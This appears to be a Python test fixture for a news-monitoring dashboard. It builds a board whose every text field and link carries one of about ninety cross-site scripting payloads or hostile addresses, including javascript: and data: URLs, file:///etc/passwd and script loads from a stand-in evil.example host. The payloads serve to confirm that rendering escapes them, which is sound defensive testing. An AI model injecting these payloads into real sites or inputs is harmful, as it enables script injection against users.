"""Strings and addresses that try to become markup or script, and a board that has one in every place."""

from __future__ import annotations

from dataclasses import replace

from monitor.web.board import AlertView, Board, CopyView, FeedView, HeadlineView, NearMiss, StoryView
from tests.fakes_board import NOW, alert, rich_board, series

# What each payload does if it runs: the page looks for the mark, and for requests that only a payload makes.
RUN = "document.documentElement.dataset.ran=1;window.ran=1"
MARKUP = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=/static/main.js?ran>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"<script\x00>{RUN}</script>",
    f"<script/x>{RUN}</script>",
    f"<script type=module>{RUN}</script>",
    f"<script nonce=''>{RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,window.ran=1></script>",
    f"<img src=x onerror={RUN}>",
    f'<img src=x onerror="{RUN}">',
    f"<IMG SRC=x ONERROR='{RUN}'>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=`x` onerror={RUN}>",
    f"<img src='x'onerror='{RUN}'",
    f"<img src=/canary onload={RUN}>",
    f"<image src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributeName=x to=1>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<svg><use href=data:image/svg+xml,<svg onload={RUN}>#x>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></foreignObject>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<iframe src=javascript:{RUN}></iframe>",
    "<iframe srcdoc='<script>parent.document.documentElement.dataset.ran=1</script>'></iframe>",
    "<iframe src=/api/v1/board></iframe>",
    f"<object data=javascript:{RUN}>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    f"<embed src=javascript:{RUN}>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<video src=x onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div onpointerover={RUN} class=bar>x</div>",
    f"<p style='animation-name:x' onanimationstart={RUN}>",
    "<style>*{background:url(/canary)}</style>",
    "<style>@import '/canary';</style>",
    "<link rel=stylesheet href=/canary>",
    "<link rel=prefetch href=//evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=/healthz'>",
    "<base href=//evil.example/>",
    "<form action=/canary><button autofocus>send",
    f"<button formaction=javascript:{RUN}>x",
    f"<isindex action=javascript:{RUN} type=image>",
    f"<template><script>{RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    f"<x contenteditable onblur={RUN}>x",
    f"<portal src=javascript:{RUN}>",
    "<a href=/healthz>not a link</a>",
    f"<a href=javascript:{RUN}>not a link</a>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"＜script＞{RUN}＜/script＞",
    f"\u2028<script>{RUN}</script>\u2029",
    f"\u202e>tpircs<{RUN}\u202d<script>",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"`;{RUN}//",
    f'";{RUN};//',
    f"';{RUN};//",
    f"*/{RUN}/*",
    "__proto__",
    "constructor",
    f"javascript:{RUN}",
    f"data: x\n\nevent: resync\ndata: {RUN}\n\n",
    f"\ud83d<script>{RUN}</script>",
    "W" * 2_000,
]
ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"\tjavascript:{RUN}",
    f"java\nscript:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"\u00a0javascript:{RUN}",
    f"javascript://news.example/%0a{RUN}",
    f"javascript&colon;{RUN}",
    f"view-source:javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    f"vbscript:{RUN}",
    "blob:http://localhost/0",
    "file:///etc/passwd",
    "about:blank",
    "ftp://news.example/",
    "intent://news.example/#Intent;end",
    "https://user:password@news.example/",
    "https://news.example@evil.example/",
    "//evil.example/",
    "/healthz",
    "healthz",
    "?x",
    "#x",
    "https://",
    "http://[::1",
    "",
    "https://news.example:99999/",
]


def hostile_board(text: list[str], addresses: list[str]) -> Board:
    """Every string of the board is one of the given, every story and headline has one of the addresses."""

    def t(i: int) -> str:
        return text[i % len(text)]

    def a(i: int) -> str:
        return addresses[i % len(addresses)]

    n = len(text)
    stories = tuple(
        StoryView(t(i) + str(i), t(i), t(i + 1), a(i), NOW, NOW, -0.5, 0.5, (t(i + 2),), ((t(i + 3), t(i + 4)),),
                  (CopyView(t(i + 5), t(i + 6), a(i + 1), NOW),), 2)
        for i in range(n)
    )  # fmt: skip
    headlines = tuple(HeadlineView(t(i), t(i + 1), a(i), NOW, 0.9, 2, 2, t(i)) for i in range(n))
    gates = tuple((t(i), i % 2 == 0, t(i + 1)) for i in range(n))
    views = tuple(
        series(f"topic:{i}{t(i)}", t(i), burst=1, alert_id=t(i), learning=t(i + 1), stale=t(i + 2)) for i in range(n)
    )
    firing: AlertView = replace(
        alert(),
        id=t(0),
        series=t(1),
        label=t(2),
        severity=t(3),
        in_words=t(4),
        headlines=headlines,
        gates=gates,
        blind=tuple(text),
        acknowledged=True,
        acknowledged_by=t(5),
        assigned_to=t(6),
        mark=t(7),
        muted_until=NOW,
        muted_by=t(8),
    )
    misses = tuple(NearMiss(t(i), t(i + 1), NOW, 1, 3, 0.5, 2.0, 4.0, t(i + 2)) for i in range(n))
    feeds = tuple(FeedView(t(i), t(i + 1), NOW, NOW, NOW, 3, t(i + 2), 1) for i in range(n))
    return replace(
        rich_board(),
        topics=views,
        sectors=views[:3],
        companies=views[:3],
        open_alerts=(firing,),
        recent_alerts=(replace(firing, id=t(5), closed_at=NOW),),
        stories_newest=stories,
        near_misses=misses,
        feeds=feeds,
        notes=tuple(text),
        model_name=t(0),
        model_hash=t(1),
    )
